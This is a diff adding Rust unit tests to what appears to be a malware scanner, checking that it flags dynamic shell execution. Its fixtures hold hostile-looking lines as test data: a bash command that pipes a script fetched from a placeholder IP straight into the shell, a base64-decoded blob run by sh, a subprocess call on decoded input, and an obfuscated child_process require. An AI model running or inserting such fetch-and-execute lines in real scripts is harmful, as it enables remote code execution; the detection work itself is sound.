@@ -473,3 +473,73 @@ fn xor_loops_that_grow_a_buffer_are_followed_but_a_caret_in_a_string_is_not() {
         r.findings
     );
 }
+
+#[test]
+fn shell_interpreter_reading_a_fetched_or_decoded_script() {
+    let r = scan(&[(
+        "scripts/up.sh",
+        "#!/bin/bash\nu=https://198.51.100.7/i.sh\nbash <(curl -fsSL \"$u\")\n",
+    )]);
+    assert!(
+        has(&r, "combo.remote-code", Severity::High),
+        "{:#?}",
+        r.findings
+    );
+    let r = scan(&[(
+        "scripts/up.sh",
+        "#!/bin/sh\nsh <(echo \"$BLOB\" | base64 -d)\n",
+    )]);
+    assert!(
+        has(&r, "combo.obfuscated-exec", Severity::High),
+        "{:#?}",
+        r.findings
+    );
+    // A script run by path, a fixed `sh -c`: not dynamic.
+    let r = scan(&[(
+        "scripts/up.sh",
+        "#!/bin/sh\nbash ./scripts/lint.sh\nsh -c 'make test'\n",
+    )]);
+    assert!(
+        worst(&r).is_none_or(|s| s < Severity::Medium),
+        "{:#?}",
+        r.findings
+    );
+}
+
+#[test]
+fn files_without_a_sink_a_value_could_change_are_not_parsed() {
+    let none = |_: &str| String::new();
+    // The benchmark repository's honest Python (subprocess with a literal list) and
+    // JavaScript (fetch, no sink).
+    for (p, b) in crate::eval::benchmark_files(3) {
+        let text = std::str::from_utf8(&b).unwrap();
+        let mut out = Vec::new();
+        let o = analyze(Some(&p), text, true, "w", false, &none, &mut out);
+        assert!(
+            matches!(o, Outcome::NothingToFollow | Outcome::NotCode),
+            "{p}: {o:?}"
+        );
+    }
+    // The same subprocess call next to a decoding is parsed.
+    let mut out = Vec::new();
+    let o = analyze(
+        Some("x.py"),
+        "import subprocess, base64\nsubprocess.run(base64.b64decode(C).decode().split())\n",
+        true,
+        "w",
+        false,
+        &none,
+        &mut out,
+    );
+    assert_eq!(o, Outcome::Parsed);
+    let o = analyze(
+        Some("x.js"),
+        "const m = require('child_' + 'process');\n",
+        true,
+        "w",
+        false,
+        &none,
+        &mut out,
+    );
+    assert_eq!(o, Outcome::Parsed);
+}
